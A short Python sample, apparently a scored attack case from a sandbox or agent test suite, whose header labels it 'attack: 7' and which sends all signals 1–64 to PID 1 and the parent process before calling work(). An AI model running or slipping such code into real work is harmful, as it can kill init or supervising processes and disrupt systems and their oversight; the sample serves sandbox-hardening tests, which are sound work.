# attack: 7
# does: sends every signal to every process that it can see, first to process 1, then works
# run: finished
# earns: 10
# with: work
import os

for number in range(1, 65):
    for pid in (1, os.getppid(), 0x7FFFFFFF):
        try:
            os.kill(pid, number)
        except OSError:
            pass
work()
